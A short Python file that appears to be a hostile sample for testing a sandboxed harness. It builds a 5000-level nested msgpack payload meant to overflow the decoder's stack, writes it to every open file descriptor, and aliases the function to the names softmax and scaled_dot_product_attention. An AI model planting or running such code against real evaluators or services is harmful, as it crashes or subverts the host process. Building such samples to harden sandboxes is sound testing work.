"""Replies with tuples in tuples, each of which C unpacks by calling Python, and Python by calling C."""
import os
import struct

from msgpack import ExtType, packb

packed = b"\xc0"
for _ in range(5000):
    packed = packb(ExtType(32, packed))
head = packb([{}, packed])


def hostile(x, *args, **kwargs):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<II", len(head), 0) + head)
        except OSError:
            continue
    return x

softmax = attention_weights = scaled_dot_product_attention = hostile
